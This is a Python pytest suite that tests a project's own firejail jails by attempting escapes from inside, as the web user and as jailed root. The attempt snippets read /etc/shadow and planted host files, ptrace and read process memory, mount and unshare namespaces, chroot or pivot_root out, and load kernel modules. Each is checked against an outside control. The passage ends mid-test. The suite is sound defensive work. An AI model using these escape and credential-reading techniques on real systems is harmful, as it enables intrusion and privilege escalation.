"""The escape battery: we attack our own jails from inside, and every attempt must be blocked.

Who attacks, and how they get in (see tests/integration/attacklib.py):

* **www-data** - an attacker with code execution in the PHP application. A PHP payload in the
  web jail's document root, requested through the host's published port 80, runs each attempt
  (a Python snippet) with proc_open: a child of an Apache worker, so it really is in the sandbox.
* **root** - root inside a jail, entered by jailenter.py with the namespaces, root directory,
  capability bounding set, rlimits, no_new_privs and seccomp filters of the jail's daemon (the
  Apache parent for the web jail, the postmaster for the db jail): what firejail --join gives a
  non-root user. test_root_attacker_has_the_confinement_of_the_daemon checks that match first.

Every test asserts the blocking evidence (an errno, a timeout, a file that is absent, a listener
that saw nothing) and prints what it tried and what happened (pytest -s or -v -rA shows it).
The suite runs on the full stack of playbooks/site.yml with inventory/lab (vars.yml).
"""

from __future__ import annotations

import json
import shlex
import time
import uuid

import pytest

from attacklib import WebShell, install_jailenter, jail_run, outside
from apachelib import apache_workers
from hostlib import jail_pids, load_vars, proc_status, public_address, wait_until

VARS = load_vars(__file__)
WEB = VARS["apache_jail"]
DB = "db"
WEB_IP = VARS["apache_ip"]
DB_IP = VARS["postgresql_address"]
BRIDGE_IP = VARS["bridge_address"].split("/")[0]
WEB_ROOT = f"/var/lib/jailhost/jails/{WEB}/root"
DB_ROOT = f"/var/lib/jailhost/jails/{DB}/root"
APP_ROOT = VARS["apache_vhosts"][0]["document_root"]
SERVER_NAME = VARS["apache_vhosts"][0]["server_name"]
MARK = f"jh-escape-{uuid.uuid4().hex[:10]}"
# A stand-in for "the outside": a network namespace on the test host routed by the host, like
# the Internet behind the uplink. Egress of the jails is denied in the lab inventory.
OUT_NS, OUT_HOST_IP, OUT_IP = "jh-out", "198.51.100.1", "198.51.100.2"
LISTEN = "/usr/local/lib/jailhost-test/listen.py"
HOST_PORT = 18222          # a service listening on every address of the test host
DB_EXTRA_PORTS = (22, 8081)  # services in the db jail other than PostgreSQL

LISTENER = r'''
import socket, sys, threading
log, specs = sys.argv[1], sys.argv[2:]
def record(line):
    with open(log, "a") as f:
        f.write(line + "\n")
def tcp(addr, port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port)); s.listen(16)
    while True:
        c, peer = s.accept(); record(f"tcp {addr}:{port} from {peer[0]}"); c.sendall(b"hello\n"); c.close()
def udp(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((addr, port))
    while True:
        data, peer = s.recvfrom(4096); record(f"udp {addr}:{port} from {peer[0]} {data[:60]!r}")
for spec in specs:
    proto, addr, port = spec.split(":")
    threading.Thread(target=tcp if proto == "tcp" else udp, args=(addr, int(port)), daemon=True).start()
record("ready")
threading.Event().wait()
'''


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def shell(host):
    wait_until(lambda: host.service(f"jailhost-{WEB}.service").is_running, timeout=30)
    web = WebShell(host, WEB_ROOT, APP_ROOT, SERVER_NAME)
    web.install()
    try:
        wait_until(lambda: _answers(web), timeout=30)
        yield web
    finally:
        web.remove()


def _answers(web) -> bool:
    try:
        return web.sh("echo ok")[1] == "ok\n"
    except Exception:  # noqa: BLE001 - Apache may still be starting after another suite's reboot
        return False


@pytest.fixture(scope="module")
def root_entry(host):
    install_jailenter(host)


@pytest.fixture(scope="module")
def planted(host):
    """Files that exist outside the web jail: on the host, in the db jail, in the shared base."""
    paths = [f"/root/{MARK}", f"/etc/{MARK}", f"/var/lib/jailhost/{MARK}", f"{DB_ROOT}/srv/{MARK}"]
    host.run_expect([0], " && ".join(f"echo secret > {p}" for p in paths))
    yield paths
    host.run(f"rm -f {' '.join(paths)}")


@pytest.fixture(scope="module")
def listeners(host):
    """TCP/UDP listeners that log every connection: on the host, in the db jail, and outside."""
    host.run_expect([0], f"mkdir -p {LISTEN.rsplit('/', 1)[0]}")
    marker = f"EOF_{uuid.uuid4().hex}"
    host.run_expect([0], f"cat > {LISTEN} <<'{marker}'\n{LISTENER}{marker}")
    host.run_expect([0], f"""
        ip netns del {OUT_NS} 2>/dev/null; ip link del h-{OUT_NS} 2>/dev/null
        ip netns add {OUT_NS}
        ip link add h-{OUT_NS} type veth peer name eth0 netns {OUT_NS}
        ip addr add {OUT_HOST_IP}/30 dev h-{OUT_NS}; ip link set h-{OUT_NS} up
        ip -n {OUT_NS} link set lo up; ip -n {OUT_NS} addr add {OUT_IP}/30 dev eth0
        ip -n {OUT_NS} link set eth0 up; ip -n {OUT_NS} route add default via {OUT_HOST_IP}""")
    _, _, db_daemons = jail_pids(host, DB)
    logs = {"host": f"/run/{MARK}-host.log", "db": f"/run/{MARK}-db.log", "out": f"/run/{MARK}-out.log"}
    starts = {
        "host": f"python3 {LISTEN} {logs['host']} tcp:0.0.0.0:{HOST_PORT} udp:{BRIDGE_IP}:53",
        "db": f"nsenter -t {db_daemons[0]} -n python3 {LISTEN} {logs['db']} "
              + " ".join(f"tcp:{DB_IP}:{p}" for p in DB_EXTRA_PORTS),
        "out": f"ip netns exec {OUT_NS} python3 {LISTEN} {logs['out']} tcp:{OUT_IP}:80 tcp:{OUT_IP}:443 "
               f"tcp:{OUT_IP}:53 udp:{OUT_IP}:53",
    }
    pids = []
    for name, start in starts.items():
        pids.append(host.check_output(f"setsid {start} >/dev/null 2>&1 </dev/null & echo $!"))
    for log in logs.values():
        wait_until(lambda log=log: "ready" in host.run(f"cat {log}").stdout, timeout=10)
    yield logs
    host.run(f"kill {' '.join(pids)}; rm -f {' '.join(logs.values())}; ip netns del {OUT_NS}")


def seen(host, log: str) -> list[str]:
    """Connections a listener logged after 'ready'."""
    return [line for line in host.run(f"cat {log}").stdout.splitlines() if line != "ready"]


def blocked(result: dict, label: str, *errnos: str) -> None:
    entry = result[label]
    assert not entry["ok"], f"{label} was NOT blocked: {entry}"
    assert entry["errno"] in errnos, f"{label}: expected {errnos}, got {entry}"


def as_root(host, code: str, jail: str = WEB) -> dict:
    return jail_run(host, jail, code, user="root")


def passes(result: dict, label: str, *errnos: str) -> None:
    """The control got through: LABEL succeeded, or failed with one of ERRNOS (an error the kernel
    returns only after the permission or capability check the jail takes away)."""
    entry = result[label]
    assert entry["ok"] or entry["errno"] in errnos, f"control {label} did not get through: {entry}"


# --------------------------------------------------------------------------- who attacks


def test_web_attacker_runs_as_www_data_with_the_worker_confinement(host, shell):
    """Precondition of the www-data attempts: the payload's process is confined like a worker."""
    me = shell.py("")["self"]
    assert me["Uid"].split() == ["33"] * 4
    _, _, (parent, *_) = jail_pids(host, WEB)
    worker = apache_workers(host, parent)[0]
    status = proc_status(host, worker)
    for key in ("Seccomp", "Seccomp_filters", "NoNewPrivs", "CapBnd"):
        assert me[key] == status[key], f"{key}: payload {me[key]}, worker {status[key]}"
    assert me["CapEff"] == "0000000000000000" and me["NoNewPrivs"] == "1"


@pytest.mark.parametrize("jail", [WEB, DB])
def test_root_attacker_has_the_confinement_of_the_daemon(host, root_entry, jail):
    """Precondition of the root attempts: jailenter's process is confined like the jail's daemon."""
    me = jail_run(host, jail, "")["self"]
    _, _, daemons = jail_pids(host, jail)
    status = proc_status(host, daemons[0])
    assert me["Uid"].split()[0] == "0"
    for key in ("Seccomp", "Seccomp_filters", "NoNewPrivs", "CapBnd"):
        assert me[key] == status[key], f"{key}: attacker {me[key]}, {jail} daemon {status[key]}"
    assert int(me["Seccomp_filters"]) > int(proc_status(host, 1)["Seccomp_filters"])
    # Root's execve gives permitted = bounding | inheritable: an inherited set (PID 1 of a Debian 13
    # host passes a full one down) would hand every capability back. Nothing outside the bounding set.
    bounding = int(status["CapBnd"], 16)
    assert int(me["CapInh"], 16) == 0 and int(me["CapAmb"], 16) == 0, me
    for key in ("CapPrm", "CapEff"):
        assert int(me[key], 16) & ~bounding == 0, f"{key}: attacker {me[key]}, {jail} bounding set {status['CapBnd']}"


# --------------------------------------------------------------------------- files


IDENTITY = r'''
def identity(path):
    st = os.stat(path)
    return [st.st_dev, st.st_ino]
'''


def test_www_data_cannot_read_the_shadow_file(host, shell):
    """www-data reads /etc/shadow: EACCES, but uid 33 gets EACCES on the host too (the file is
    root's, 0640), so the errno proves nothing about the jail. What the jail changes: the file
    www-data would read is not the host's. stat() needs no read permission; the jail's /etc/shadow
    has another (device, inode) than the host's (a bind mount would keep both). CONTROL: uid 33 on
    the host stats the host's /etc/shadow and is denied its content the same way.
    (test_root_in_jail_sees_its_own_shadow_not_the_hosts compares the contents.)"""
    code = IDENTITY + "attempt('shadow', lambda: open('/etc/shadow').read())\n" \
                      "attempt('identity', lambda: identity('/etc/shadow'))"
    result = shell.py(code)
    control = outside(host, code)
    blocked(control, "shadow", "EACCES")  # precondition: plain permissions, no jail needed
    blocked(result, "shadow", "EACCES")
    assert control["identity"]["ok"] and result["identity"]["ok"], (control, result)
    assert result["identity"]["value"] != control["identity"]["value"], "www-data's /etc/shadow is the host's file"


def test_root_in_jail_sees_its_own_shadow_not_the_hosts(host, root_entry):
    host_hash = host.check_output("sha256sum /etc/shadow").split()[0]
    result = as_root(host, "import hashlib\n"
                           "attempt('hash', lambda: hashlib.sha256(open('/etc/shadow','rb').read()).hexdigest())")
    assert result["hash"]["ok"], result
    assert result["hash"]["value"] != host_hash, "the jail reads the host's /etc/shadow"


def test_host_files_are_absent_for_www_data(host, shell, planted):
    """Files planted on the host (0644) in /etc and /var/lib/jailhost are read by uid 33 on the
    host (CONTROL) and absent (ENOENT) for www-data in the jail. The one in /root is denied to
    uid 33 on the host too (/root is 0700): there the evidence is that the jail's /root is
    another directory (a private tmpfs: another device and inode than the host's /root)."""
    code = IDENTITY + f"for p in {planted[:3]!r}: attempt(p, lambda p=p: open(p).read())\n" \
                      "attempt('root_dir', lambda: identity('/root'))"
    result = shell.py(code)
    control = outside(host, code)
    blocked(control, planted[0], "EACCES")  # /root is 0700 on the host: not the jail's doing
    assert control[planted[1]] == control[planted[2]] == {"ok": True, "value": "secret\n"}, control
    blocked(result, planted[0], "EACCES", "ENOENT")  # /root is a private tmpfs (0700)
    blocked(result, planted[1], "ENOENT")
    blocked(result, planted[2], "ENOENT")
    assert control["root_dir"]["ok"] and result["root_dir"]["ok"], (control, result)
    assert result["root_dir"]["value"] != control["root_dir"]["value"], "www-data's /root is the host's /root"


def test_host_files_are_absent_for_root_in_the_jail(host, root_entry, planted):
    """Root in the jail, who passes every permission check, finds none of the planted files.
    CONTROL: root on the host, outside the jail, reads each of them and sees the one in /root."""
    code = (f"for p in {planted[:3]!r}: attempt(p, lambda p=p: open(p).read())\n"
            "attempt('root', lambda: sorted(os.listdir('/root')))\n")
    result = as_root(host, code + f"attempt('find', lambda: os.popen('find / -xdev -name {MARK} 2>/dev/null').read())")
    control = outside(host, code, uid=None)
    for path in planted[:3]:
        assert control[path] == {"ok": True, "value": "secret\n"}, control[path]
        blocked(result, path, "ENOENT")
    assert MARK in json.dumps(control["root"]), control["root"]
    assert MARK not in json.dumps(result["root"]) and result["find"]["value"] == ""


def test_other_jails_roots_are_unreachable(host, root_entry, planted):
    """Root in the web jail looks for the db jail's files: by their host path, by their path in
    the db jail, and through /proc/PID/root of a db jail process. CONTROLS: root in the db jail
    reads the planted file and lists its data directory; root on the host, outside any jail, reads
    the file by its host path and finds the db jail's processes' roots in /proc."""
    db_file = planted[3]
    code = (f"attempt('path', lambda: open({db_file!r}).read())\n"
            f"attempt('inside', lambda: open('/srv/{MARK}').read())\n"
            "attempt('pgdata', lambda: os.listdir('/var/lib/postgresql'))\n"
            "attempt('roots', lambda: [r for r in os.popen("
            "'ls -d /proc/[0-9]*/root/var/lib/postgresql 2>/dev/null').read().split()])")
    result = as_root(host, code)
    in_db = as_root(host, code, jail=DB)
    on_host = outside(host, code, uid=None)
    assert in_db["inside"] == {"ok": True, "value": "secret\n"} and in_db["pgdata"]["ok"], in_db
    assert on_host["path"] == {"ok": True, "value": "secret\n"} and on_host["roots"]["value"], on_host
    blocked(result, "path", "ENOENT")
    blocked(result, "inside", "ENOENT")
    blocked(result, "pgdata", "ENOENT")
    assert result["roots"]["value"] == [], "a process of the db jail is visible"


def test_root_in_jail_cannot_change_the_shared_base(host, root_entry):
    """Root in the jail owns its files and may write them, but the write lands in the web jail's
    own overlay layer: the base image all jails share, and the db jail, never see it."""
    base = host.check_output(f"cat /var/lib/jailhost/jails/{WEB}/base").strip()
    probe = f"/usr/lib/{MARK}"
    result = as_root(host, f"attempt('write', lambda: open({probe!r}, 'w').write('x'))")
    try:
        assert result["write"]["ok"], "control: root in the jail writes its own /usr/lib"
        assert host.file(f"/var/lib/jailhost/jails/{WEB}/upper{probe}").exists, "the write is not in the jail's layer"
        assert not host.file(f"{base}{probe}").exists, "the jail wrote into the shared base"
        assert not host.file(f"{DB_ROOT}{probe}").exists, "the write is visible in the db jail"
    finally:
        as_root(host, f"attempt('cleanup', lambda: os.unlink({probe!r}))")


@pytest.mark.parametrize("directory", ["/etc", "/usr/bin", "/usr/lib", "/var/lib", "/sbin"])
def test_www_data_cannot_write_system_directories(host, shell, root_entry, directory):
    """Precondition: www-data cannot create a file in a system directory (EACCES), but uid 33
    cannot on the host either (CONTROL): the directories are root's, the jail adds nothing here.
    The jail's part is tried by an attacker who succeeds outside: root. Root on the host creates
    the file in the host's directory (CONTROL); root in the jail gets no further than the jail's
    own overlay layer: the host's directory, the shared base and the db jail never see the file."""
    path = f"{directory}/{MARK}"
    code = f"attempt('write', lambda: open({path!r}, 'w').write('x'))"
    result = shell.py(code)
    blocked(outside(host, code), "write", "EACCES")  # plain permissions, no jail needed
    blocked(result, "write", "EACCES")
    base = host.check_output(f"cat /var/lib/jailhost/jails/{WEB}/base").strip()
    try:
        control = outside(host, code, uid=None)
        assert control["write"]["ok"] and host.file(path).exists, f"control: root on the host writes {path}"
        host.run_expect([0], f"rm -f {path}")
        as_root(host, code)  # a success here is the jail's own file; an error is fine too
        assert not host.file(path).exists, f"root in the jail wrote the host's {path}"
        assert not host.file(f"{base}{path}").exists, "root in the jail wrote into the shared base"
        assert not host.file(f"{DB_ROOT}{path}").exists, "the write is visible in the db jail"
    finally:
        host.run(f"rm -f {path}")
        as_root(host, f"attempt('cleanup', lambda: os.unlink({path!r}))")


def test_www_data_cannot_change_the_application(host, shell):
    """Not a property of the jail: a precondition on the apache role's deployment. What blocks
    www-data here is the files' ownership (root's, not writable by group or others), the same on
    the host as in the jail: uid 33 is refused files of that ownership and mode anywhere. The
    test checks that ownership from inside and that it, not a failing payload, is the refusal.
    CONTROL: the same payload writes where the ownership allows it (www-data's /tmp in the jail)."""
    before = host.check_output(f"sha256sum {WEB_ROOT}{APP_ROOT}/index.php")
    result = shell.py(f"attempt('deface', lambda: open('{APP_ROOT}/index.php', 'a').write('owned'))\n"
                      f"attempt('drop', lambda: open('{APP_ROOT}/{MARK}.php', 'w'))\n"
                      f"attempt('modes', lambda: [(s.st_uid, s.st_mode & 0o022) for s in "
                      f"(os.stat('{APP_ROOT}'), os.stat('{APP_ROOT}/index.php'))])\n"
                      f"attempt('tmp', lambda: open('/tmp/{MARK}', 'w').write('x'))\n"
                      f"os.path.exists('/tmp/{MARK}') and os.unlink('/tmp/{MARK}')")
    assert result["tmp"] == {"ok": True, "value": 1}, f"control: the payload cannot write at all: {result['tmp']}"
    assert result["modes"] == {"ok": True, "value": [[0, 0], [0, 0]]}, f"the application is not root's alone: {result}"
    blocked(result, "deface", "EACCES")
    blocked(result, "drop", "EACCES")
    assert host.check_output(f"sha256sum {WEB_ROOT}{APP_ROOT}/index.php") == before


def test_host_control_sockets_and_firejail_state_are_absent(host, shell):
    """The host's systemd, D-Bus and journal sockets, and firejail's state of the host (the
    name file of the web jail's own sandbox, which names its host PID)."""
    main = host.check_output(f"systemctl show -p MainPID --value jailhost-{WEB}.service")
    assert host.file(f"/run/firejail/name/{main}").exists, "control: the state file exists on the host"
    paths = ["/run/systemd/private", "/run/dbus/system_bus_socket", f"/run/firejail/name/{main}",
             "/var/run/docker.sock", "/run/systemd/journal/socket", "/run/systemd/notify"]
    code = f"for p in {paths!r}: attempt(p, lambda p=p: os.stat(p))"
    result = shell.py(code)
    # CONTROL: uid 33 on the host, outside the jail, finds each of them (stat needs no permission
    # on the socket itself). docker.sock is only there on a host that runs Docker: printed.
    control = outside(host, code)
    for path in paths:
        if path != "/var/run/docker.sock":
            assert control[path]["ok"], f"control: uid 33 on the host does not find {path}: {control[path]}"
        blocked(result, path, "ENOENT")


# --------------------------------------------------------------------------- processes


@pytest.fixture
def sentinel(host):
    """A process on the host running as www-data's uid: only the PID namespace protects it."""
    link = "/usr/local/lib/jailhost-test/jhsentinel"
    host.run_expect([0], f"ln -sf /bin/sleep {link}")
    pid = int(host.check_output(f"setsid setpriv --reuid=33 --regid=33 --clear-groups {link} 600 "
                                ">/dev/null 2>&1 </dev/null & echo $!"))
    yield pid
    host.run(f"kill {pid}")


def test_host_processes_are_invisible(host, shell, sentinel):
    """www-data lists /proc. CONTROL: uid 33 on the host, outside the jail, sees the sentinel (its
    own uid), sshd, systemd and the db jail's postgres: /proc of the host hides nothing from it."""
    code = ("attempt('comms', lambda: sorted({open(f'/proc/{p}/comm').read().strip() "
            "for p in os.listdir('/proc') if p.isdigit() and os.path.exists(f'/proc/{p}/comm')}))\n"
            "attempt('count', lambda: len([p for p in os.listdir('/proc') if p.isdigit()]))")
    result = shell.py(code)
    control = outside(host, code)["comms"]["value"]
    assert {"jhsentinel", "sshd", "systemd", "postgres"} <= set(control), control
    comms = result["comms"]["value"]
    assert "jhsentinel" not in comms and "sshd" not in comms and "systemd" not in comms, comms
    assert "postgres" not in comms, comms
    # rotatelogs: the jail's own log writers, started by its Apache parent (issue 16).
    assert set(comms) <= {"firejail", "apache2", "rotatelogs", "sh", "python3", "ls", "php"}, comms


def test_host_processes_cannot_be_signalled(host, shell, sentinel):
    """www-data signals a host process of its own uid: ESRCH, it is not in the jail's PID
    namespace. CONTROL: uid 33 on the host signals it (signal 0: the check without the kill)."""
    control = outside(host, f"attempt('kill0', lambda: os.kill({sentinel}, 0))")
    assert control["kill0"] == {"ok": True, "value": None}, control
    result = shell.py(f"pid = {sentinel}\n"
                      "out['collision'] = os.path.exists(f'/proc/{pid}')\n"
                      "if not out['collision']: attempt('kill', lambda: os.kill(pid, 9))")
    assert result["collision"] is False, "the sentinel's host PID exists inside the jail: rerun"
    blocked(result, "kill", "ESRCH")
    assert host.run(f"kill -0 {sentinel}").rc == 0, "the host process died"


def test_root_in_jail_cannot_signal_host_processes(host, root_entry, sentinel):
    """CONTROL: root on the host signals the sentinel (kill -0 after the attempt: it is alive)."""
    result = as_root(host, f"pid = {sentinel}\n"
                           "out['collision'] = os.path.exists(f'/proc/{pid}')\n"
                           "if not out['collision']: attempt('kill', lambda: os.kill(pid, 9))")
    assert result["collision"] is False
    blocked(result, "kill", "ESRCH")
    assert host.run(f"kill -0 {sentinel}").rc == 0


# The secret is in memory before the fork, so the child has it at the same address.
PTRACE = r'''
secret = ctypes.create_string_buffer(b'jh-secret', 16)
child = os.fork()
if child == 0:
    time.sleep(5); os._exit(0)
attempt('attach', lambda: syscall(101, 16, child, 0, 0))     # ptrace(PTRACE_ATTACH, child)
buf = ctypes.create_string_buffer(16)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 9)
remote = (ctypes.c_void_p * 2)(ctypes.addressof(secret), 9)
attempt('vm_readv', lambda: syscall(310, child, ctypes.addressof(local), 1, ctypes.addressof(remote), 1, 0) and buf.value.decode())
def proc_mem():
    with open(f'/proc/{child}/mem', 'rb', buffering=0) as f:
        f.seek(ctypes.addressof(secret))
        return f.read(9).decode()
attempt('proc_mem', proc_mem)
os.kill(child, 9); os.waitpid(child, 0)
'''


# /proc/PID/mem of another process: the memory a debugger reads, without ptrace().
PROC_MEM_OF = r'''
def read_mem(pid):
    start = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
    with open(f'/proc/{pid}/mem', 'rb', buffering=0) as f:
        f.seek(start)
        return len(f.read(16))
out['collision'] = os.path.exists(f'/proc/{SENTINEL}')  # in the jail: a process of its own with that PID
attempt('sentinel_mem', lambda: read_mem(SENTINEL))
'''


def assert_ptrace_result(result: dict, control: dict) -> None:
    """CONTROL (outside the jail, same uid): PTRACE_ATTACH works, process_vm_readv and /proc/PID/mem
    return the child's secret, and the host's sentinel process (uid 33) is read through
    /proc/PID/mem. In the jail, ptrace and process_vm_readv are refused by the seccomp filter
    (EPERM). /proc/PID/mem is a file, no system call the filter can name: the attacker reads its
    own child there as it does outside (asserted, so that nobody claims otherwise: a known limit
    of the filter). What keeps it inside the jail: the host's processes are not in its PID
    namespace (sentinel_mem: no such process); the Apache workers are not dumpable."""
    assert control["attach"]["ok"], control
    assert control["vm_readv"] == {"ok": True, "value": "jh-secret"}, control
    assert control["proc_mem"] == {"ok": True, "value": "jh-secret"}, control
    assert control["sentinel_mem"] == {"ok": True, "value": 16}, control
    blocked(result, "attach", "EPERM")
    blocked(result, "vm_readv", "EPERM")
    assert result["proc_mem"] == control["proc_mem"], \
        f"/proc/PID/mem of its own child changed in the jail (update the test and the docs): {result['proc_mem']}"
    assert result["collision"] is False, "the sentinel's host PID exists inside the jail: rerun"
    blocked(result, "sentinel_mem", "ENOENT")


def test_www_data_cannot_ptrace_its_own_child(host, shell, sentinel):
    """Its own child, same uid: only seccomp stands in the way (Yama would allow it).
    CONTROL: uid 33 on the host, outside the jail, attaches to and reads its own child and the
    sentinel (see assert_ptrace_result)."""
    code = PTRACE + PROC_MEM_OF.replace("SENTINEL", str(sentinel))
    result = shell.py(code)
    assert_ptrace_result(result, outside(host, code))


def test_root_in_jail_cannot_ptrace(host, root_entry, sentinel):
    """CONTROL: root on the host, outside the jail, attaches to and reads its own child and the
    sentinel (see assert_ptrace_result)."""
    code = PTRACE + PROC_MEM_OF.replace("SENTINEL", str(sentinel))
    result = as_root(host, code)
    assert_ptrace_result(result, outside(host, code, uid=None))


# --------------------------------------------------------------------------- kernel interfaces

MOUNT = r'''
os.makedirs('/tmp/m', exist_ok=True)
attempt('tmpfs', lambda: syscall(165, b'none', b'/tmp/m', b'tmpfs', 0, 0))
attempt('bind_root', lambda: syscall(165, b'/', b'/tmp/m', 0, 4096, 0))   # MS_BIND
attempt('umount_proc', lambda: syscall(166, b'/proc', 2))                   # umount2 MNT_DETACH
'''


# The unprivileged way to mount: a user namespace of one's own, in which one is root.
USERNS_MOUNT = r'''
def userns_mount():
    syscall(272, 0x10000000 | 0x00020000)               # unshare(CLONE_NEWUSER | CLONE_NEWNS)
    return syscall(165, b'none', b'/tmp', b'tmpfs', 0, 0)  # a tmpfs over /tmp, in that namespace only
attempt('userns_tmpfs', userns_mount)
'''


def test_www_data_cannot_mount(host, shell):
    """The plain mount calls fail for uid 33 on the host too (EPERM: no CAP_SYS_ADMIN): for them
    this is a precondition, test_root_in_jail_cannot_mount has the control that succeeds. What
    www-data could do outside and not in the jail: mount in a user namespace of its own.
    CONTROL: uid 33 on the host creates one and mounts a tmpfs in it (the mount dies with it)."""
    result = shell.py(MOUNT + USERNS_MOUNT)
    try:
        control = outside(host, MOUNT + USERNS_MOUNT)
    finally:
        host.run("rmdir /tmp/m")
    for label in ("tmpfs", "bind_root", "umount_proc"):
        blocked(control, label, "EPERM")  # plain permissions, no jail needed
        blocked(result, label, "EPERM")
    passes(control, "userns_tmpfs")
    blocked(result, "userns_tmpfs", "EPERM")


def test_root_in_jail_cannot_mount(host, root_entry):
    """CONTROL: root on the host, outside any jail, in a throwaway mount namespace (unshare -m,
    private propagation: nothing reaches the host's mounts), mounts a tmpfs, binds / and detaches
    /proc. In the jail: EPERM (seccomp and the capability bounding set)."""
    result = as_root(host, MOUNT)
    try:
        control = outside(host, MOUNT, uid=None, wrap="unshare -m --propagation private")
    finally:
        host.run("rmdir /tmp/m")
    for label in ("tmpfs", "bind_root", "umount_proc"):
        passes(control, label)
        blocked(result, label, "EPERM")


# The user namespace last: once in one, the process would hold every capability for the others
# (and unshare(1) first, from the namespaces the attacker starts in).
UNSHARE = r'''
attempt('unshare_cmd', lambda: os.popen('unshare -U -r id -u 2>&1').read())
for name, flag in (('mount', 0x00020000), ('net', 0x40000000), ('pid', 0x20000000), ('user', 0x10000000)):
    attempt(name, lambda flag=flag: syscall(272, flag))
'''


def test_www_data_cannot_create_namespaces(host, shell):
    """CONTROL: uid 33 on the host, outside the jail, creates a user namespace and becomes root in
    it (unshare -U -r); in the jail it cannot (restrict-namespaces, seccomp). Mount, network and PID
    namespaces need CAP_SYS_ADMIN, which uid 33 lacks on the host too: for them this is a
    precondition, test_root_in_jail_cannot_create_namespaces has the control that succeeds."""
    result = shell.py(UNSHARE)
    control = outside(host, UNSHARE)
    for label in ("mount", "net", "pid"):
        blocked(control, label, "EPERM")  # plain permissions, no jail needed
    passes(control, "user")
    assert control["unshare_cmd"]["value"].strip() == "0", control
    for label in ("user", "mount", "net", "pid"):
        blocked(result, label, "EPERM")
    assert result["unshare_cmd"]["value"].strip() != "0"


def test_root_in_jail_cannot_create_namespaces(host, root_entry):
    """CONTROL: root on the host, outside any jail, creates each namespace (they are the control
    process's own and end with it)."""
    result = as_root(host, UNSHARE)
    control = outside(host, UNSHARE, uid=None)
    for label in ("user", "mount", "net", "pid"):
        passes(control, label)
        blocked(result, label, "EPERM")


# Run FN in a forked child, so that a success (in a control) changes only the child's root.
IN_CHILD = r'''
def in_child(fn):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            fn(); code = 0
        except OSError as e:
            code = e.errno or 255
        os.write(w, bytes([code])); os._exit(0)
    os.close(w)
    code = os.read(r, 1)[0]
    os.close(r); os.waitpid(pid, 0)
    if code:
        raise OSError(code, os.strerror(code))
    return 'done'
'''
CHROOT = IN_CHILD + r'''
os.makedirs('/tmp/x', exist_ok=True)
attempt('proc1root', lambda: os.listdir('/proc/1/root/var/lib'))
attempt('chroot', lambda: in_child(lambda: os.chroot('/tmp/x')))
attempt('pivot_root', lambda: in_child(lambda: syscall(155, b'/tmp', b'/tmp/x')))
'''


def test_root_in_jail_cannot_chroot_back_out(host, root_entry):
    """The classic escape: chroot into a subdirectory, walk up with .., chroot("."); or
    pivot_root, or the root directory of PID 1. CONTROL: root on the host, outside any jail, in a
    throwaway mount namespace: chroot works, pivot_root gets past its permission check (it
    works, or fails on its arguments: EINVAL, EBUSY), and /proc/1/root is the host's tree."""
    result = as_root(host, CHROOT)
    try:
        control = outside(host, CHROOT, uid=None, wrap="unshare -m --propagation private")
    finally:
        host.run("rmdir /tmp/x")
    passes(control, "chroot")
    passes(control, "pivot_root", "EINVAL", "EBUSY")
    assert "jailhost" in json.dumps(control["proc1root"]), control
    blocked(result, "chroot", "EPERM")
    blocked(result, "pivot_root", "EPERM")
    # PID 1 of the jail is the sandbox itself, chrooted like us: no host tree behind /proc/1/root
    assert "jailhost" not in json.dumps(result["proc1root"])


MODULE = r'''
attempt('init_module', lambda: syscall(175, 0, 0, b''))
fd = os.open('/dev/null', os.O_RDONLY)
attempt('finit_module', lambda: syscall(313, fd, b'', 0))
attempt('delete_module', lambda: syscall(176, b'overlay', 0))
'''


CAP_SYS_MODULE = 16


def test_www_data_cannot_load_a_kernel_module(host, shell):
    """Precondition only: uid 33 gets the same EPERM on the host (CONTROL), without CAP_SYS_MODULE
    no process loads a module. test_root_in_jail_cannot_load_a_kernel_module is the jail's test."""
    result = shell.py(MODULE)
    control = outside(host, MODULE)
    for label in ("init_module", "finit_module", "delete_module"):
        blocked(control, label, "EPERM")  # plain permissions, no jail needed
        blocked(result, label, "EPERM")


def test_root_in_jail_cannot_load_a_kernel_module(host, root_entry):
    """Root in the jail loads, and unloads, a kernel module: EPERM. What the jail does about it:
    CAP_SYS_MODULE is out of the capability bounding set of every jail process, and firejail's
    seccomp filter names init_module, finit_module and delete_module. CONTROL: root on the host,
    outside the jail. On a host that may load modules, it gets past the permission check (ENOEXEC,
    EINVAL, EBADF, ENOENT: the arguments are garbage) and the test requires that; on a host that
    may not (the lab host is a systemd-nspawn container, without CAP_SYS_MODULE) it gets EPERM as
    well, and only the jail's own bounding set and filter are left to check, so they are."""
    before = host.check_output("cat /proc/modules 2>/dev/null | wc -l")
    result = as_root(host, MODULE)
    control = outside(host, MODULE, uid=None)
    for label in ("init_module", "finit_module", "delete_module"):
        blocked(result, label, "EPERM")
    assert host.check_output("cat /proc/modules 2>/dev/null | wc -l") == before
    assert not int(result["self"]["CapBnd"], 16) >> CAP_SYS_MODULE & 1, result["self"]
    if int(control["self"]["CapBnd"], 16) >> CAP_SYS_MODULE & 1:
        for label in ("init_module", "finit_module", "delete_module"):
            passes(control, label, "ENOEXEC", "EINVAL", "EBADF", "ENOENT", "EFAULT", "EWOULDBLOCK")
    else:  # the host's root cannot load modules either: the jail's filter must still carry them
        _, _, daemons = jail_pids(host, WEB)
        listed = host.check_output(f"cat /proc/{daemons[0]}/root/run/firejail/mnt/seccomp/seccomp.list")
        assert listed.split(), "no seccomp filter listed in the jail"
        assert int(result["self"]["Seccomp_filters"]) > int(control["self"]["Seccomp_filters"]), (result, control)


SOCKETS = r'''
attempt('raw_icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
attempt('raw_tcp6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP).close())
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close())
attempt('inet_ok', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close())
'''


def test_www_data_cannot_open_raw_or_packet_sockets(host, shell):
